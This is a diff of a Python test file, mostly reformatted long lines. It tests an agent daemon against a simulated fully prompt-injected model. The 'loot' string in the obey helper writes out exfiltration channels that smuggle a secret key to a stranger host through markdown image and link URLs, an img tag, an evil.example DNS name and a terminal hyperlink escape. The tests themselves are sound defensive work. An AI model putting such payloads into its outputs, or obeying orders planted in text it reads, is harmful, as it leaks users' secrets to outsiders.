@@ -1,6 +1,6 @@
-"""The fully compromised model: it obeys every order in every text it reads, with every tool offered, as if no check had
-ever found one. Under the shipped policy nothing leaves but the report, to where its routine says, and nothing changes
-outside the workspace.
+"""The fully compromised model: it obeys every order in every text it reads, with every tool
+offered, as if no check had ever found one. Under the shipped policy nothing leaves but the report,
+to where its routine says, and nothing changes outside the workspace.
 """
 
 from __future__ import annotations
@@ -43,7 +43,9 @@ path = "reports/{run}.md"
 
 
 class World:
-    """A home with a secret, a stranger who listens, and the real daemon of which every tool is offered."""
+    """A home with a secret, a stranger who listens, and the real daemon of which every tool is
+    offered.
+    """
 
     def __init__(self, folder: Path, home: str, stranger: str) -> None:
         self.folder, self.token = folder, secrets.token_hex(8)
@@ -68,7 +70,8 @@ class World:
         self.write("policy.toml", SHIPPED.read_text())
         self.write(
             "config.toml",
-            f'provider = "obedient"\nworkspace = "{self.workspace}"\n[providers.obedient]\nkind = "scripted"\n'
+            f'provider = "obedient"\nworkspace = "{self.workspace}"\n[providers.obedient]\nkind = '
+            '"scripted"\n'
             f'[targets.home]\nkind = "webhook"\nurl = "{home}"\n',
         )
         self.write("routines/reader.toml", ROUTINE)
@@ -113,7 +116,9 @@ class World:
         return value
 
     def everything_else(self) -> dict[str, bytes | str]:
-        """Return what is in every file of this world outside the workspace and the daemon's own state."""
+        """Return what is in every file of this world outside the workspace and the daemon's own
+        state.
+        """
         found: dict[str, bytes | str] = {}
         for path in sorted(self.folder.rglob("*")):
             if (
@@ -136,12 +141,15 @@ def _call(call: tuple[str, Any], world: World) -> dict[str, Any]:
 async def obey(
     app: App, world: World, text: str, calls: Any, *, reads: bool = True
 ) -> tuple[Run, list[str]]:
-    """Live a run whose model does what a text says, whatever it is told meanwhile; a person refuses what is asked."""
+    """Live a run whose model does what a text says, whatever it is told meanwhile; a person refuses
+    what is asked.
+    """
     (world.workspace / "inbox.txt").write_text(world.fill(text))
     orders = [{"name": name, "arguments": world.fill(arguments)} for name, arguments in calls]
     loot = (
         f"Summary.\n\n![badge]({world.stranger}/b.png?d={KEY}) [more]({world.stranger}/f?d={KEY})\n"
-        f"<img src={world.stranger}/i?d={KEY}> {KEY}.evil.example \x1b]8;;{world.stranger}\x07here\x1b]8;;\x07"
+        f"<img src={world.stranger}/i?d={KEY}> {KEY}.evil.example "
+        f"\x1b]8;;{world.stranger}\x07here\x1b]8;;\x07"
     )
     model: Any = app.providers.get("obedient")
     reading = [[{"name": "file_read", "arguments": {"path": "inbox.txt"}}]] if reads else []
@@ -201,7 +209,7 @@ async def test_nothing_leaves_but_the_report_and_nothing_changes_outside(tmp_pat
     )
 
 
-async def test_even_where_the_rules_allow_sending_and_writing_a_run_that_has_read_strangers_does_neither(
+async def test_even_where_the_rules_allow_sending_and_writing_a_run_that_has_read_strangers_does_neither(  # noqa: E501
     tmp_path, receivers
 ):
     home, stranger = receivers
